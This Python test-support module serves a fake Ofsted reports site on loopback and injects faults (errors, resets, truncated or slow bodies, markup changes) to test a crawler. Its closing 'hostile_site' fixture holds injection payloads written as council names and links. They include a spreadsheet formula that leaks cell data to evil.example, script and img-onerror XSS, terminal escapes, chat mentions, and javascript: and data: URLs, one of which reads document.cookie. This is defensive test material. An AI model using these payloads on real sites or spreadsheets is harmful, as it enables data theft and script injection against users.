"""A fake of the Ofsted reports site, served on loopback, for the crawl, download and end-to-end tests.

Pages follow the real site's structure: a paginated search (`/search?...&start=0&rows=100`,
`ul.results-list` of `li.search-result` with `h3` links to `/provider/44/<URN>`, a pagination
nav with a "Next" link), provider pages (`h1.heading--title` with the council's name, an
`ol.timeline` of `a.publication-link` anchors with a `span.nonvisual` text such as
"Children's services inspection, pdf - 01 July 2019") and report files on a second server, the
"files host" (`/v1/file/<id>`, absolute links, as files.ofsted.gov.uk is on the real site).

Faults are injected per URL (see `Fault`): a status sequence (503 then 200), 429 with
Retry-After, a reset connection, a truncated body, an HTML "Report not found" page served with
200 in place of a PDF, a body trickled a few bytes at a time (`Fault.trickle`); links to a host not allowed (`add_publication(..., host="localhost")`);
redirects (`Fault.redirect(url)`); and markup changes (`site.markup = "variant"` keeps the
documented classes, `"changed"` removes them everywhere, `"changed-provider"` on provider pages).

Each search result shows the council's "Latest report" date as the site does
(`<li>Latest report: <strong><time>23 July 2024</time></strong></li>`): the newest publication
listed (`letters_move_latest = False`: the newest graded inspection only), no line without one,
none at all with `latest_report = False`, or a council's text as given in `latest_text[urn]`.
Time travels by the hour: `site.now` is the site's clock (None: every publication is listed);
`add_publication(..., appears=when)` lists a publication from `when` on; `site.advance(hours=1)`.

Files and pages carry validators (ETag, Last-Modified on files) and answer conditional GETs
with 304; `reissue(url)` replaces a file's body under the same URL, as the site does for a
correction. `log` records every request as (time.monotonic(), path) on arrival: the rate the
site saw is counted from it, not from the client.

    with FakeOfstedSite(councils=150) as site:
        settings = Settings.from_env(site.env(OFSTED_LANDING=str(tmp_path)))

From a shell (serves until killed, prints its URLs):
    python -m tests.support.fakesite --councils 150 --port 8080
"""

from __future__ import annotations

import argparse
import hashlib
import html
import importlib
import socket
import struct
import sys
import threading
import time
from collections import Counter
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta
from email.utils import format_datetime, parsedate_to_datetime
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import parse_qs, urlencode, urlsplit

KIND_LABELS = {
    "inspection": "Children's services inspection",
    "focused_visit": "Focused visit",
    "monitoring_visit": "Monitoring visit",
    "jtai": "Joint area child protection inspection",  # how the site lists a JTAI
    "area_send": "Area SEND full inspection",
    "other": "Annual engagement meeting summary",  # a wording the crawler does not know
}

# Real councils (name, URN) to start the list; reorganised councils have 7-digit URNs.
KNOWN_COUNCILS = [
    ("2532287", "Bournemouth, Christchurch & Poole"),
    ("2532283", "Dorset"),
    ("2637539", "North Northamptonshire"),
    ("2637548", "West Northamptonshire"),
    ("2733690", "Cumberland"),
    ("2733698", "Westmorland and Furness"),
    ("80418", "Norfolk"),
    ("80426", "Barnsley"),
    ("80427", "Bath and North East Somerset"),
    ("80436", "Bracknell Forest"),
    ("80442", "Buckinghamshire"),
    ("80443", "Bury"),
    ("80444", "Calderdale"),
    ("80447", "Cheshire East"),
    ("80449", "Bradford"),
    ("80451", "Wakefield"),
    ("80454", "Cornwall"),
    ("80464", "Dudley"),
    ("80465", "Durham"),
    ("80468", "Essex"),
    ("80472", "Hampshire"),
    ("80479", "Knowsley"),
    ("80481", "Leeds"),
    ("80482", "Leicester"),
    ("80483", "Leicestershire"),
    ("80487", "Barnet"),
    ("80490", "Bromley"),
    ("80492", "Croydon"),
    ("80495", "Greenwich"),
    ("80496", "Hackney"),
    ("80497", "Hammersmith and Fulham"),
    ("80498", "Haringey"),
    ("80544", "Kensington and Chelsea"),
    ("80546", "Windsor and Maidenhead"),
    ("80564", "Stoke-on-Trent"),
]

SEARCH_QUERY = {
    "q": "",
    "location": "",
    "lat": "",
    "lon": "",
    "radius": "",
    "level_1_types": "3",
    "level_2_types[]": "12",
}


@dataclass
class Fault:
    """One misbehaviour for the next `times` requests of a URL (None: for every request)."""

    kind: str  # "status" | "reset" | "truncate" | "html" | "redirect" | "delay" | "trickle"
    status: int = 503
    location: str | None = None  # where a "redirect" points
    retry_after: str | None = None
    fraction: float = 0.5  # how much of the body a "truncate" sends
    seconds: float = 0.0  # how long a "delay" holds the answer back
    times: int | None = 1

    @classmethod
    def http(cls, status: int = 503, *, retry_after: str | int | None = None, times: int | None = 1):
        return cls("status", status=status, times=times, retry_after=None if retry_after is None else str(retry_after))

    @classmethod
    def reset(cls, times: int | None = 1):
        return cls("reset", times=times)

    @classmethod
    def truncate(cls, fraction: float = 0.5, times: int | None = 1):
        return cls("truncate", fraction=fraction, times=times)

    @classmethod
    def delay(cls, seconds: float, times: int | None = 1):
        """A slow server: answer normally, `seconds` late."""
        return cls("delay", seconds=seconds, times=times)

    @classmethod
    def trickle(cls, seconds_per_chunk: float, times: int | None = 1):
        """A server that sends the body 64 bytes at a time, `seconds_per_chunk` apart."""
        return cls("trickle", seconds=seconds_per_chunk, times=times)

    @classmethod
    def html(cls, times: int | None = 1):
        return cls("html", times=times)

    @classmethod
    def redirect(cls, location: str, status: int = 302, times: int | None = 1):
        return cls("redirect", status=status, location=location, times=times)


@dataclass
class FakePublication:
    urn: str
    kind: str
    published: date
    title: str
    file_id: str
    host: str | None = None  # link host override (e.g. "localhost": not on the allowed list)
    relative: bool = False  # link written as a relative href
    pdf: bytes | None = None
    modified: datetime | None = None  # when the body was last replaced (default: published)
    href: str | None = None  # the link exactly as listed (hostile: javascript:, data:, a foreign host)
    appears: datetime | None = None  # listed from this time of the site's clock on (None: always)


def minimal_pdf(lines: list[str]) -> bytes:
    """A small valid one-page PDF showing `lines` (Helvetica), with a correct xref table."""

    def esc(s: str) -> str:
        return s.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")

    text = "".join(f"({esc(line)}) Tj 0 -16 Td " for line in lines)
    stream = f"BT /F1 12 Tf 72 760 Td {text}ET".encode("latin-1", "replace")
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 5 0 R "
        b"/Resources << /Font << /F1 4 0 R >> >> >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream",
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, obj in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + obj + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def default_pdf_factory(council_name: str, kind: str, published: date) -> bytes:
    return minimal_pdf([KIND_LABELS.get(kind, kind), council_name, f"Published: {published:%d %B %Y}"])


def report_not_found_page() -> bytes:
    """What the real site serves, with status 200, for a report it no longer has."""
    return _layout(
        "Report not found - Find an Inspection Report - Ofsted",
        "Report not found",
        """
      <div class="flat-content text-large">
        <p><span>Sorry, the document you requested no longer exists.</span></p>
        <ul><li><span>Go to <a href="https://reports.ofsted.gov.uk">our homepage</a></span></li></ul>
      </div>""",
        crumb="Report not found",
    ).encode()


def _layout(title: str, heading: str, body: str, *, crumb: str) -> str:
    return f"""<!DOCTYPE html>
<html lang="en">
<head>
  <meta charset="utf-8"/>
  <link rel="stylesheet" href="/css/style.css" />
  <title>{title}</title>
</head>
<body>
  <div class="container"><a class="skip-link" href="#main">Skip to main content</a></div>
  <div class="main-content">
    <header class="header"><div class="container">
      <a class="header__home-link" href="/"><span class="nonvisual">Ofsted homepage</span>
        <img class="header__logo" src="/images/logo.svg" alt="Ofsted Logo" /></a>
    </div></header>
    <div class="container"><ol class="breadcrumbs">
      <li class="crumb"><a href="/">Home</a></li>
      <li class="crumb">{crumb}</li>
    </ol></div>
    <main id="main" tabindex="-1"><div class="container"><div class="row"><div class="col two-thirds-sm">
      <div class="module title-block title-block--flat title-block--clear title-block--large">
        <h1 class="heading--title title-block__heading">{heading}</h1>
      </div>
{body}
    </div></div></div></main>
  </div>
  <footer class="footer"><div class="container"><ul class="footer__links list-inline">
    <li><a href="/terms-and-conditions">Terms of use</a></li><li><a href="/cookies">Cookies</a></li>
  </ul></div></footer>
</body>
</html>
"""


class _QuietServer(ThreadingHTTPServer):
    def handle_error(self, request, client_address):
        """A client that hung up mid-answer (a killed worker, a timeout) is normal here."""
        if not isinstance(sys.exc_info()[1], ConnectionError):
            super().handle_error(request, client_address)


class FakeOfstedSite:
    def __init__(
        self,
        councils: int = 3,
        *,
        rows_per_page: int = 100,
        pdf_factory=None,
        host: str = "127.0.0.1",
        port: int = 0,
        files_host: str = "127.0.0.1",
        files_port: int = 0,
        publications: bool = True,
    ):
        self.rows_per_page = rows_per_page
        self.pdf_factory = pdf_factory or default_pdf_factory
        self.markup = "real"  # "real" | "variant" | "changed" | "changed-provider" (pages only)
        self.now: datetime | None = None  # the site's clock (time travel: advance())
        self.latest_report = True  # search results show "Latest report: <time>...</time>"
        self.letters_move_latest = True  # False: only graded inspections move that date
        self.latest_text: dict[str, str] = {}  # URN -> the line's text as given (a bad date)
        self.councils: dict[str, str] = {}  # URN -> name
        self.search_hrefs: dict[str, str] = {}  # URN -> the search result's link, as listed (default /provider/44/URN)
        self.publications: dict[str, list[FakePublication]] = {}
        self.files: dict[str, FakePublication] = {}
        self.faults: dict[str, list[Fault]] = {}
        self.requests: Counter[str] = Counter()  # per path, every request received
        self.log: list[tuple[float, str]] = []  # (monotonic time, path) of every request received
        self.files_served = 0  # complete 200 answers with a report's bytes
        self.not_modified = 0  # 304 answers to conditional GETs
        self.user_agents: set[str] = set()
        self._lock = threading.RLock()
        self._next_file = 50_000_000
        self._servers = [self._server(host, port), self._server(files_host, files_port)]
        self._threads: list[threading.Thread] = []
        self.host, self.files_host = host, files_host
        self.url = f"http://{host}:{self._servers[0].server_address[1]}"
        self.files_url = f"http://{files_host}:{self._servers[1].server_address[1]}"
        for i in range(councils):
            urn, name = KNOWN_COUNCILS[i] if i < len(KNOWN_COUNCILS) else (str(90000 + i), f"Testshire {i:03d}")
            self.add_council(urn, name)
            if publications:
                self._default_publications(i, urn)

    # -- set-up ---------------------------------------------------------------------------------
    def add_council(self, urn: str, name: str) -> str:
        with self._lock:
            self.councils[str(urn)] = name
            self.publications.setdefault(str(urn), [])
        return f"{self.url}/provider/44/{urn}"

    def add_publication(
        self,
        urn: str,
        kind: str,
        published: date,
        pdf: bytes | None = None,
        title: str | None = None,
        *,
        host: str | None = None,
        relative: bool = False,
        file_id: str | None = None,
        href: str | None = None,
        appears: datetime | None = None,
    ) -> str:
        """List a publication on the council's page (from `appears` on, by the site's clock);
        returns its file URL (as linked, or `href` when given: the link exactly as listed)."""
        if str(urn) not in self.councils:
            raise KeyError(f"no council {urn} on the fake site: add_council() it first")
        with self._lock:
            if file_id is None:
                self._next_file += 1
                file_id = str(self._next_file)
            label = title or f"{KIND_LABELS[kind]}, pdf - {published:%d %B %Y}"
            pub = FakePublication(
                str(urn), kind, published, label, str(file_id), host, relative, pdf, href=href, appears=appears
            )
            self.publications[str(urn)].append(pub)
            self.files[pub.file_id] = pub
            return href or self.file_url(pub)

    def file_url(self, pub: FakePublication) -> str:
        if pub.relative:
            return f"{self.url}/v1/file/{pub.file_id}"
        files = urlsplit(self.files_url)
        return f"http://{pub.host or files.hostname}:{files.port}/v1/file/{pub.file_id}"

    def _default_publications(self, i: int, urn: str) -> None:
        self.add_publication(urn, "inspection", date(2017 + i % 3, 1 + i % 12, 1 + i % 27))
        self.add_publication(urn, "focused_visit", date(2020, 1 + (i + 3) % 12, 1 + (i + 5) % 27))
        self.add_publication(urn, "inspection", date(2023 + i % 2, 1 + (i + 7) % 12, 1 + (i + 11) % 27))
        if i % 3 == 0:
            self.add_publication(urn, "monitoring_visit", date(2021, 1 + i % 12, 2))
        if i % 5 == 0:
            self.add_publication(urn, "jtai", date(2019, 1 + i % 12, 3))
        if i % 7 == 0:
            self.add_publication(urn, "other", date(2022, 1 + i % 12, 4))

    def advance(self, hours: float = 1) -> datetime:
        """Move the site's clock on (from now, the first time)."""
        with self._lock:
            self.now = (self.now or datetime.now().replace(minute=0, second=0, microsecond=0)) + timedelta(hours=hours)
            return self.now

    def listed(self, urn: str) -> list[FakePublication]:
        """The council's publications the site lists at its clock's time."""
        with self._lock:
            return [p for p in self.publications[urn] if p.appears is None or self.now is None or p.appears <= self.now]

    def latest(self, urn: str) -> str | None:
        """The text of the council's "Latest report" line, or None for no line."""
        if urn in self.latest_text:
            return self.latest_text[urn]
        dates = [p.published for p in self.listed(urn) if self.letters_move_latest or p.kind == "inspection"]
        return f"{max(dates):%d %B %Y}" if dates else None

    def inject(self, url: str, *faults: Fault) -> None:
        """Queue faults for a URL (absolute or a path, optionally with its query)."""
        parts = urlsplit(url)
        key = parts.path + (f"?{parts.query}" if parts.query else "")
        with self._lock:
            self.faults.setdefault(key, []).extend(faults)

    def pdf_bytes(self, pub: FakePublication) -> bytes:
        with self._lock:
            if pub.pdf is None:
                pub.pdf = self.pdf_factory(self.councils[pub.urn], pub.kind, pub.published)
            return pub.pdf

    def reissue(self, url: str, pdf: bytes | None = None) -> bytes:
        """Replace a file's body under the same URL (a correction); returns the new body."""
        pub = self.files[url.rsplit("/", 1)[-1]]
        with self._lock:
            old = self.pdf_bytes(pub)
            pub.pdf = pdf or old.replace(b"%%EOF", b"% corrected\n%%EOF")
            pub.modified = datetime.now(UTC).replace(microsecond=0)
            return pub.pdf

    def window_max(self, seconds: float = 1.0, paths: str = "") -> int:
        """The most requests (paths starting with `paths`) the site received in any window of
        `seconds`: the rate as the site saw it."""
        times = sorted(t for t, path in self.log if path.startswith(paths))
        best, j = 0, 0
        for i, t in enumerate(times):
            while times[j] <= t - seconds:
                j += 1
            best = max(best, i - j + 1)
        return best

    def all_file_urls(self) -> list[str]:
        return [self.file_url(p) for p in self.files.values()]

    def reset_counters(self) -> None:
        with self._lock:
            self.requests.clear()
            self.log.clear()
            self.files_served = 0
            self.not_modified = 0

    @property
    def allowed_hosts(self) -> str:
        return " ".join(sorted({self.host, self.files_host}))

    def env(self, **extra: str) -> dict[str, str]:
        """Environment for Settings.from_env: this site, its hosts, and fast retries."""
        return {
            "OFSTED_SITE_URL": self.url,
            "OFSTED_ALLOWED_HOSTS": self.allowed_hosts,
            "OFSTED_REQUESTS_PER_SECOND": "500",
            "OFSTED_CONCURRENCY": "4",
            "OFSTED_MAX_RETRIES": "3",
            "OFSTED_CONNECT_TIMEOUT": "2",
            "OFSTED_READ_TIMEOUT": "5",
            "OFSTED_BACKOFF_BASE": "0.01",
            "OFSTED_RETRY_AFTER_MAX": "0.2",
            **extra,
        }

    # -- serving --------------------------------------------------------------------------------
    def _server(self, host: str, port: int) -> ThreadingHTTPServer:
        site = self

        class Handler(_Handler):
            fake = site

        server = _QuietServer((host, port), Handler)
        server.daemon_threads = True
        return server

    def start(self) -> FakeOfstedSite:
        if self._threads:  # already serving (start() then `with site:`)
            return self
        for server in self._servers:
            t = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
            t.start()
            self._threads.append(t)
        return self

    def stop(self) -> None:
        for server in self._servers:
            server.shutdown()
            server.server_close()

    def __enter__(self) -> FakeOfstedSite:
        return self.start()

    def __exit__(self, *exc) -> None:
        self.stop()

    def _take_fault(self, path: str, query: str) -> Fault | None:
        with self._lock:
            for key in (f"{path}?{query}" if query else None, path):
                queue = self.faults.get(key) if key else None
                if queue:
                    fault = queue[0]
                    if fault.times is not None:
                        fault.times -= 1
                        if fault.times <= 0:
                            queue.pop(0)
                    return fault
        return None

    # -- pages ----------------------------------------------------------------------------------
    def search_page(self, query: dict[str, list[str]]) -> bytes:
        start = int((query.get("start") or ["0"])[0] or 0)
        rows = min(int((query.get("rows") or [str(self.rows_per_page)])[0] or self.rows_per_page), self.rows_per_page)
        with self._lock:
            ordered = sorted(self.councils.items(), key=lambda kv: kv[1].lower())
        page = ordered[start : start + rows]
        if self.markup == "changed":
            return self._changed_search(page)
        items = "\n".join(self._result_item(urn, name) for urn, name in page)
        nav = self._pagination(start, rows, len(ordered))
        listing = (
            f'<ul class="results-list list-unstyled">\n{items}\n</ul>'
            if page
            else '<p class="search-results__none">No results found.</p>'
        )
        body = f"""      <p class="search-results__count"><span class="count">{len(ordered)}</span> results</p>
      {listing}
      {nav}"""
        return _layout(
            "Search results - Find an Inspection Report - Ofsted",
            "Find an inspection report",
            body,
            crumb="Search results",
        ).encode()

    def _result_item(self, urn: str, name: str) -> str:
        if self.markup == "variant":  # divs, absolute and padded hrefs, whitespace in the name
            return f"""<div class="search-result search-result--la">
          <h2 class="search-result__title"><a class="search-result__link"
             href=" {self.url}/provider/44/{urn} "  title="{html.escape(name)}">
               {html.escape(name)}
          </a></h2><div class="search-result__meta">URN: {urn}</div>{self._latest_line(urn, "div")}</div>"""
        return f"""        <li class="search-result">
          <h3 class="search-result__title heading--sub"><a href="{html.escape(self.search_hrefs.get(urn, f"/provider/44/{urn}"))}">{html.escape(name)}</a></h3>
          <ul class="search-result__provider-info list-unstyled">
            <li>Local authority children's services</li>
            <li>URN: <strong>{urn}</strong></li>{self._latest_line(urn, "li")}
          </ul>
        </li>"""

    def _latest_line(self, urn: str, tag: str) -> str:
        text = self.latest(urn) if self.latest_report else None
        if text is None:
            return ""
        return f"\n            <{tag}>Latest report: <strong><time>{html.escape(text)}</time></strong></{tag}>"

    def _pagination(self, start: int, rows: int, total: int) -> str:
        def link(s: int, text: str, cls: str) -> str:
            href = "/search?" + urlencode({**SEARCH_QUERY, "start": s, "rows": rows})
            return f'<li class="pagination__item {cls}"><a href="{html.escape(href)}">{text}</a></li>'

        items = []
        if start > 0:
            items.append(link(max(start - rows, 0), "Previous", "pagination__prev"))
        for n, s in enumerate(range(0, total, rows or 1), 1):
            items.append(link(s, str(n), "pagination__current" if s == start else ""))
        if start + rows < total:
            items.append(link(start + rows, "Next", "pagination__next"))
        return f'<nav class="pagination"><ul class="pagination__list">{"".join(items)}</ul></nav>'

    def _changed_search(self, page) -> bytes:
        cards = "".join(
            f'<div class="provider-card" data-id="{urn}"><span>{html.escape(name)}</span></div>' for urn, name in page
        )
        return f"""<!DOCTYPE html><html><head><title>Find an inspection report</title></head>
<body><div id="app" data-page="search">{cards}</div><script src="/js/app.js"></script></body></html>""".encode()

    def provider_page(self, urn: str) -> bytes | None:
        with self._lock:
            if urn not in self.councils:
                return None
            name = self.councils[urn]
            pubs = sorted(self.listed(urn), key=lambda p: p.published, reverse=True)
        days = "\n".join(self._timeline_item(p) for p in pubs)
        body = f"""      <p class="title-block__subheading">Local authority children's services</p>
      <div class="provider-info"><p>URN: <strong>{urn}</strong></p>
        <p>Address: {html.escape(name)} Council Offices</p></div>
      <h2 class="heading--sub">Reports</h2>
      <ol class="timeline">
{days}
      </ol>"""
        return _layout(
            f"{html.escape(name)} - Find an Inspection Report - Ofsted",
            html.escape(name),
            body,
            crumb=html.escape(name),
        ).encode()

    def _timeline_item(self, p: FakePublication) -> str:
        href = html.escape(p.href) if p.href else f"/v1/file/{p.file_id}" if p.relative else self.file_url(p)
        label, title = html.escape(KIND_LABELS.get(p.kind, p.kind)), html.escape(p.title)
        when = f'<p class="timeline__date"><time datetime="{p.published}">{p.published:%d %B %Y}</time></p>'
        if self.markup in ("changed", "changed-provider"):
            return f'<li class="event">{when}<a class="document" href="{href}">{title}</a></li>'
        if self.markup == "variant":
            return f"""        <li class="timeline__day timeline__day--published">{when}
          <div class="event"><a  target="_blank" class="publication-link publication-link--pdf"
              href="  {href}  ">{label}
              <span class="nonvisual">
                 {title}
              </span></a></div></li>"""
        return f"""        <li class="timeline__day">
          {when}
          <div class="event"><span class="event__title"><a class="publication-link" href="{href}" target="_blank">{label}<span class="nonvisual">{title}</span></a></span></div>
        </li>"""


class _Handler(BaseHTTPRequestHandler):
    fake: FakeOfstedSite
    protocol_version = "HTTP/1.1"

    def log_message(self, format, *args):  # keep test output quiet
        pass

    def do_GET(self):
        parts = urlsplit(self.path)
        site = self.fake
        with site._lock:
            site.requests[parts.path] += 1
            site.log.append((time.monotonic(), parts.path))
            site.user_agents.add(self.headers.get("User-Agent", ""))
        fault = site._take_fault(parts.path, parts.query)
        if fault and fault.kind == "delay":
            time.sleep(fault.seconds)
        if fault and fault.kind == "reset":
            return self._reset()
        if fault and fault.kind == "status":
            extra = {"Retry-After": fault.retry_after} if fault.retry_after else {}
            return self._send(fault.status, b"<html><body>Service unavailable</body></html>", "text/html", extra)
        if fault and fault.kind == "redirect":
            return self._send(fault.status, b"", None, {"Location": fault.location})
        if fault and fault.kind == "html":
            return self._send(200, report_not_found_page(), "text/html; charset=UTF-8")
        if parts.path == "/search":
            return self._send_page(site.search_page(parse_qs(parts.query, keep_blank_values=True)))
        if parts.path.startswith("/provider/"):
            page = site.provider_page(parts.path.rstrip("/").rsplit("/", 1)[-1])
            return self._send_page(page) if page else self._not_found()
        if parts.path.startswith("/v1/file/"):
            pub = site.files.get(parts.path.rsplit("/", 1)[-1])
            if pub is None:
                return self._not_found()
            return self._send_file(site.pdf_bytes(pub), pub, fault)
        return self._not_found()

    def _send_page(self, page: bytes):
        """Pages carry an ETag (of their content) and answer If-None-Match with 304."""
        etag = f'"{hashlib.sha256(page).hexdigest()[:20]}"'
        if self.headers.get("If-None-Match") == etag:
            return self._send(304, b"", None, {"ETag": etag})
        return self._send(200, page, headers={"ETag": etag})

    def _send_file(self, data: bytes, pub: FakePublication, fault: Fault | None):
        etag = f'"{hashlib.sha256(data).hexdigest()[:20]}"'
        modified = pub.modified or datetime(pub.published.year, pub.published.month, pub.published.day, tzinfo=UTC)
        headers = {"ETag": etag, "Last-Modified": format_datetime(modified, usegmt=True)}
        if self._not_modified(etag, modified):
            return self._send(304, b"", None, headers)
        if fault and fault.kind == "truncate":
            return self._truncated(data, fault.fraction, headers)
        if fault and fault.kind == "trickle":
            return self._trickle(data, fault.seconds, headers)
        with self.fake._lock:
            self.fake.files_served += 1
        return self._send(200, data, "application/pdf", headers)

    def _not_modified(self, etag: str, modified: datetime) -> bool:
        """RFC 9110: If-None-Match decides when present; else If-Modified-Since."""
        if self.headers.get("If-None-Match") is not None:
            return self.headers["If-None-Match"] == etag
        since = self.headers.get("If-Modified-Since")
        try:
            return since is not None and modified <= parsedate_to_datetime(since)
        except (TypeError, ValueError):
            return False

    def _send(
        self,
        status: int,
        body: bytes,
        ctype: str | None = "text/html; charset=UTF-8",
        headers: dict[str, str] | None = None,
    ):
        self.send_response(status)
        if ctype:
            self.send_header("Content-Type", ctype)
        for k, v in (headers or {}).items():
            self.send_header(k, v)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        if status == 304:
            with self.fake._lock:
                self.fake.not_modified += 1
        else:
            self.wfile.write(body)

    def _not_found(self):
        self._send(404, b"<html><body><h1>Page not found</h1></body></html>")

    def _pdf_headers(self, data: bytes, headers: dict[str, str]):
        """A 200 announcing the whole file (Content-Length), before a body sent some other way."""
        self.send_response(200)
        self.send_header("Content-Type", "application/pdf")
        for k, v in headers.items():
            self.send_header(k, v)
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()

    def _truncated(self, data: bytes, fraction: float, headers: dict[str, str]):
        self._pdf_headers(data, headers)
        self.wfile.write(data[: int(len(data) * fraction)])
        self.wfile.flush()
        # the server stops short of Content-Length and closes (FIN, so the partial bytes arrive)
        self.close_connection = True
        self.connection.shutdown(socket.SHUT_WR)

    def _trickle(self, data: bytes, seconds: float, headers: dict[str, str]):
        self._pdf_headers(data, headers)
        try:
            for i in range(0, len(data), 64):
                self.wfile.write(data[i : i + 64])
                self.wfile.flush()
                time.sleep(seconds)
        except OSError:  # the client gave up: what a deadline is for
            self.close_connection = True

    def _reset(self):
        """Drop the connection with a TCP reset (SO_LINGER 0), as a flaky server or proxy does."""
        try:
            self.wfile.flush()
        except OSError:
            pass
        self.connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        self.close_connection = True
        self.connection.close()


# A hostile stand-in of the site: what an attacker who controls its listings could write.
# Names carry a formula, markup, chat mentions and terminal escapes; links are javascript:,
# data: and a foreign host (never requested: the test asserts it).
HOSTILE_NAMES = {
    "80487": '=HYPERLINK("http://evil.example/?leak="&A2,"Barnet")',
    "80426": "Barnsley <script>alert(1)</script> <img src=x onerror=alert(2)> *bold* [x](http://evil.example)",
    "80418": "Norfolk <users/all> @everyone <!channel> @here",
    "80427": "Bath \x1b]0;pwned\x07\x1b[2J\x1b[31mred\u202eevil\x00\x85",
}
HOSTILE_LINKS = {
    "javascript": "javascript:fetch('/api/v2/variables',{method:'POST',body:'x'})",
    "data": "data:text/html,<script>alert(document.domain)</script>",
    "foreign": "https://evil.example/v1/file/666",
}


def hostile_site(**kwargs) -> FakeOfstedSite:
    """Four councils with HOSTILE_NAMES; the first lists a publication per HOSTILE_LINKS and
    its search result links to a `javascript:` URL that still ends in its provider path."""
    factory = kwargs.pop("pdf_factory", None) or default_pdf_factory
    # the files carry the names too, as far as a PDF's standard fonts can (Latin-1: escapes included)
    kwargs["pdf_factory"] = lambda name, kind, published: factory(
        name.encode("latin-1", "ignore").decode("latin-1"), kind, published
    )
    site = FakeOfstedSite(councils=0, **kwargs)
    for i, (urn, name) in enumerate(HOSTILE_NAMES.items()):
        site.add_council(urn, name)
        site._default_publications(i, urn)
    first = next(iter(HOSTILE_NAMES))
    for n, href in enumerate(HOSTILE_LINKS.values()):
        site.add_publication(first, "inspection", date(2025, 1, 1 + n), href=href)
    site.search_hrefs[first] = f"javascript:alert(document.cookie)//provider/44/{first}"
    return site


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description="Serve a fake Ofsted reports site until killed.")
    ap.add_argument("--councils", type=int, default=3)
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("--port", type=int, default=0)
    ap.add_argument("--files-host", default="127.0.0.1")
    ap.add_argument("--files-port", type=int, default=0)
    ap.add_argument("--rows-per-page", type=int, default=100)
    ap.add_argument(
        "--pdf-factory",
        metavar="MODULE:FUNCTION",
        help="callable(council_name, kind, published) -> bytes for the reports",
    )
    args = ap.parse_args(argv)
    factory = None
    if args.pdf_factory:
        module, func = args.pdf_factory.split(":")
        factory = getattr(importlib.import_module(module), func)
    site = FakeOfstedSite(
        args.councils,
        rows_per_page=args.rows_per_page,
        pdf_factory=factory,
        host=args.host,
        port=args.port,
        files_host=args.files_host,
        files_port=args.files_port,
    ).start()
    print(f"site_url={site.url}\nfiles_url={site.files_url}\nallowed_hosts={site.allowed_hosts}", flush=True)
    try:
        threading.Event().wait()
    except KeyboardInterrupt:
        pass
    finally:
        site.stop()
    return 0


if __name__ == "__main__":
    sys.exit(main())
